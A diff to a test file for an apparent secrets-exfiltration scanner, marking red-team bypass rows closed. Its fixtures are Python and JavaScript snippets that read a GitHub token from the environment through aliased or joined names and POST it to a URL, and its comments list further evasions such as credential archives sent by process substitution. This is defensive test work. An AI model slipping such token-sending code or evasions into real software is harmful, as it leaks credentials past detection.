@@ -4,9 +4,9 @@ import { checksInLinearTime, describeAccepted, describeFindings, type FindingRow
 // Attack 70 (branch att-safety70), attacking safety70's readings: a name given a string literal read as the literal in
 // the secrets check, a download helper's method reached through a bound or aliased reference, `getattr`, a subclass, and
 // a credential stream archived with grouped flags or piped through filters. Each row was first seen failing. Open rows
-// (`it.fails`, no 'closed'): A70-2 (a name given a name, High), A70-3 (a token's name kept in a container or an
-// attribute), A70-5 (a credential archive sent by process substitution or from an absolute home) and A70-6 (a helper's
-// method reached in ways the owner reading does not follow), the last three Medium.
+// (`it.fails`, no 'closed'), all Medium: A70-3 (a token's name kept in a container or an attribute), A70-5 (a credential
+// archive sent by process substitution or from an absolute home) and A70-6 (a helper's method reached in ways the owner
+// reading does not follow).
 
 /**
  * A70-1 (High): a name given the token's name on a line the reading did not take as a literal's: a trailing comment
@@ -21,10 +21,15 @@ const LITERAL_LINES: FindingRow[] = [
   ['test/a.test.js', "const A = 'GITHUB', B = 'TOKEN';\nconst t = process.env[`${A}_${B}`];\nawait fetch(u, { method: 'POST', body: t });", 'closed'],
 ];
 
-/** A70-2 (High): a name given another name that holds the literal (`A = 'GITHUB_TOKEN'`, `B = A`): read one step only. */
+/**
+ * A70-2 (High): a name given another name that holds the literal (`A = 'GITHUB_TOKEN'`, `B = A`, `NAME = PREFIX +
+ * 'TOKEN'`): read one step only. Closed by attack 70: names read in rounds, a binding of joined literals read too; a
+ * text whose rounds outgrow the bound is refused (the last row, which each round doubles).
+ */
 const NAME_OF_NAME: FindingRow[] = [
-  ['tests/t.py', "A = 'GITHUB_TOKEN'\nB = A\nt = os.environ[B]\nrequests.post(u, data=t)"],
-  ['test/a.test.js', "const PREFIX = 'GITHUB_';\nconst NAME = PREFIX + 'TOKEN';\nconst t = process.env[NAME];\nawait fetch(u, { method: 'POST', body: t });"],
+  ['tests/t.py', "A = 'GITHUB_TOKEN'\nB = A\nt = os.environ[B]\nrequests.post(u, data=t)", 'closed'],
+  ['test/a.test.js', "const PREFIX = 'GITHUB_';\nconst NAME = PREFIX + 'TOKEN';\nconst t = process.env[NAME];\nawait fetch(u, { method: 'POST', body: t });", 'closed'],
+  ['tests/t.py', `A = '${'x'.repeat(400)}'\nB = A + A\n${Array(24).fill('print(B, B)').join('\n')}`, 'closed'],
 ];
 
 /**
